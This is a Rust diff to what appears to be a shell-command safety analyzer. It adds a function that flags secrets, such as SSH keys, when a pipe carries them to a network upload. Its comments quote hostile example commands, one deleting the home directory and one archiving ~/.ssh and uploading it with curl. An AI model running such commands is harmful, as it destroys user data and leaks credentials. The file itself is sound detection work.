@@ -100,6 +100,8 @@ pub fn effects_of_parsed(
     // Files the line has written so far, with their text when the line shows it
     // (`echo 'rm -rf ~' > x.sh && bash x.sh`).
     let mut written: Vec<(String, Option<String>)> = Vec::new();
+    // The secret each command read, if it read one (for what a pipe carries on).
+    let mut secret_read: Vec<Option<String>> = vec![None; commands.len()];
     for (i, cmd) in commands.iter().enumerate() {
         let mut scoped = vars.clone();
         scoped.extend(cmd.env.iter().map(|(n, v)| (n.to_string(), v.to_string())));
@@ -352,7 +354,9 @@ pub fn effects_of_parsed(
                 written.push((path, text));
             }
         }
+        let before = out.len();
         flush(&sink, &cwd, oldpwd.as_deref(), at, out);
+        carried_secret(parsed, i, &mut secret_read, before, out);
         for a in parsed.assigns.iter().filter(|a| a.by == i) {
             let value = substitute(&a.value, &vars).unwrap_or_else(|| a.value.to_string());
             if value.len() <= MAX_VALUE {
@@ -431,6 +435,56 @@ fn later_text(
         {
             sink.path(Act::Cron, target);
         }
+    }
+}
+
+/// A secret carried by a pipe to the network: command `i` (whose effects start at `from` in
+/// `out`) sends to a remote what a command feeding it, directly or through filters
+/// (`base64`, `gzip`, `tar`), read from a secrets place (`tar czf - ~/.ssh | curl -T - URL`).
+/// The send is then also at that secret. Records what command `i` itself read.
+fn carried_secret(
+    parsed: &Parsed<'_>,
+    i: usize,
+    secret_read: &mut [Option<String>],
+    from: usize,
+    out: &mut Vec<Effect>,
+) {
+    let mine = &out[from..];
+    // A public key (`id_ed25519.pub`) is kept beside the secret but is not one.
+    if let Some(e) = mine
+        .iter()
+        .find(|e| e.act == Act::Read && e.place == Place::Secrets && !e.target.ends_with(".pub"))
+    {
+        secret_read[i] = Some(e.target.clone());
+    }
+    if !mine
+        .iter()
+        .any(|e| e.act == Act::Send && e.place == Place::Remote)
+    {
+        return;
+    }
+    // Producers upstream of `i`, bounded by the number of commands.
+    let mut frontier = vec![i];
+    let mut seen = vec![false; parsed.commands.len()];
+    let mut found = None;
+    while let Some(k) = frontier.pop() {
+        for &(a, b) in &parsed.pipes {
+            if b != k || seen.get(a).copied().unwrap_or(true) {
+                continue;
+            }
+            seen[a] = true;
+            if let Some(t) = secret_read.get(a).cloned().flatten() {
+                found = Some(t);
+            }
+            frontier.push(a);
+        }
+    }
+    if let Some(target) = found {
+        out.push(Effect {
+            act: Act::Send,
+            place: Place::Secrets,
+            target,
+        });
     }
 }
 
